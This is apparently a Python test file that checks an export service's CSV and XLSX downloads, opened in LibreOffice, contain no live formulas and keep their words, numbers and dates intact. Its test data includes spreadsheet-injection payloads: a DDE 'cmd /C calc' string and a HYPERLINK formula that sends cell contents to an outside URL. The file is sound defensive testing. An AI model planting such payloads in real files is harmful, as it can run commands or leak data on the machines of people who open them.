"""What a spreadsheet makes of the files, asked of LibreOffice: numbers, dates and words are there, and nothing runs."""

from __future__ import annotations

from pathlib import Path

import pytest

from domain import zones
from domain.cells import guarded
from domain.downloads import Download, Form, Shape
from domain.timespan import HOUR, SECOND, to_datetime
from tests.api.rendering import calc
from tests.api.rendering.calc import AMERICAN, GERMAN, Formula
from tests.api.rendering.readings import NAME, SUMMER_ENDS, Stored, kept, of
from tests.lab import opened_lab

pytestmark = pytest.mark.xdist_group("spreadsheets")  # opened together, once

WORDS = [
    "=1+1",
    "=2+5+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1,"see")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "'=1+1",
    "''=1",
    "{=1+1}",
    "open",
    "a;b",
    'say "hi"',
    "one\ntwo",
    "<r><t>x</t></r>",
    "_x0041_",
    "Grüße, ω, я, שלום, مرحبا, नमस्ते, 漢字, 한글, ไทย",
    "🦦🌡️",
]
NUMBERS = [0.0, 21.4, -21.4, 0.1 + 0.2, 1e-7, 1e15, 123456789.125, 1e22, 1.5e300]
ZONE = "America/New_York"
SPREADSHEETS_DIGITS = 1e-14
"""LibreOffice writes down fifteen digits of a number."""


def stored() -> Stored:
    """A second after the other over the hour that comes twice; each word, and each number."""
    begin = SUMMER_ENDS + 4 * HOUR
    found: Stored = {(begin + 400 * place * SECOND, 1): (None, word) for place, word in enumerate(WORDS)}
    return found | {(begin + 400 * place * SECOND, 0): (value, None) for place, value in enumerate(NUMBERS)}


@pytest.fixture(scope="module")
def taken(tmp_path_factory) -> dict[str, Path]:
    """Files of one channel, had over HTTP."""
    with opened_lab(tmp_path_factory.mktemp("lab")) as lab:
        channel = kept(lab.store, stored())
        common = of(channel, zone=ZONE, feeds=("temperature", "door"))
        folder = tmp_path_factory.mktemp("taken")
        return {
            name: saved(lab, download, folder / f"{name}.{download.form}")
            for name, download in {
                "wide": common,
                "tidy": common.but(shape=Shape.TIDY),
                "commas": common.but(decimal_comma=True),
                "excel": common.but(for_excel=True),
                "book": common.but(form=Form.XLSX),
                "tidy_book": common.but(form=Form.XLSX, shape=Shape.TIDY),
            }.items()
        }


def saved(lab, download: Download, path: Path) -> Path:
    answer = lab.client.get(download.address)
    assert answer.status_code == 200
    path.write_bytes(answer.data)
    return path


@pytest.fixture(scope="module")
def opened(taken, tmp_path_factory) -> dict[str, list[list[object]]]:
    """The rows of each file, as LibreOffice has them."""
    folder = tmp_path_factory.mktemp("calc")
    ways = [
        (["wide", "tidy", "excel"], calc.as_table(",", AMERICAN)),
        (["commas"], calc.as_table(";", GERMAN)),
        (["book", "tidy_book"], ""),
    ]
    found: dict[str, list[list[object]]] = {}
    for names, infilter in ways:
        sheets = calc.opened([taken[name] for name in names], folder, infilter)
        found |= {name: next(iter(sheets[taken[name].name].values())) for name in names}
    return found


EVERY = ["wide", "tidy", "commas", "excel", "book", "tidy_book"]
WIDE = ["wide", "commas", "excel", "book"]


class TestOpened:
    @pytest.mark.parametrize("name", EVERY)
    def test_nothing_in_it_runs(self, opened, name):
        assert [cell for row in opened[name] for cell in row if isinstance(cell, Formula)] == []

    @pytest.mark.parametrize("name", EVERY)
    def test_every_word_is_there(self, opened, name):
        found = [word for row in opened[name][1:] if isinstance(word := cell_of(row, name, "text"), str)]
        expected = WORDS if "book" in name else [guarded(word) for word in WORDS]
        assert found == expected

    @pytest.mark.parametrize("name", EVERY)
    def test_every_number_is_one(self, opened, name):
        found = [value for row in opened[name][1:] if isinstance(value := cell_of(row, name, "value"), float)]
        assert found == pytest.approx(NUMBERS, rel=SPREADSHEETS_DIGITS, abs=0)

    @pytest.mark.parametrize("name", [*WIDE, "tidy_book"])
    def test_local_times_are_dates(self, opened, name):
        expected = [zones.local(at, zones.zone_named(ZONE)).replace(tzinfo=None) for at in instants(name)]
        assert [row[1] for row in opened[name][1:]] == expected

    @pytest.mark.parametrize("name", ["book", "tidy_book"])
    def test_in_a_workbook_so_are_those_of_utc(self, opened, name):
        assert [row[0] for row in opened[name][1:]] == [to_datetime(at).replace(tzinfo=None) for at in instants(name)]

    @pytest.mark.parametrize("name", WIDE)
    def test_the_headings_say_the_units(self, opened, name):
        assert opened[name][0] == ["time_utc", "time_local", "temperature [°C]", "door"]

    @pytest.mark.parametrize("name", ["tidy", "tidy_book"])
    def test_the_name_of_the_channel_is_whole(self, opened, name):
        assert {row[opened[name][0].index("channel")] for row in opened[name][1:]} == {NAME}


def cell_of(row: list[object], name: str, kind: str) -> object:
    """The cell of a number or a word: in a wide table the feed's, in a tidy one that column."""
    first = 2 if "tidy" not in name else 3 if name == "tidy" else 4
    place = first + (kind == "text")
    return row[place] if place < len(row) else None


def instants(name: str) -> list[int]:
    """When each row is from."""
    every = [at for at, _ in sorted(stored())]
    return every if "tidy" in name else sorted(set(every))


class TestTheSpreadsheetWouldRunThem:
    def test_what_is_not_guarded_is_run(self, tmp_path):
        file = tmp_path / "bare.csv"
        file.write_text("door\r\n=1+1\r\n'=1+1\r\n", encoding="utf-8")
        ((_, rows),) = calc.opened([file], tmp_path, calc.as_table(",", AMERICAN))["bare.csv"].items()
        assert rows == [["door"], [Formula("of:=1+1")], ["'=1+1"]]
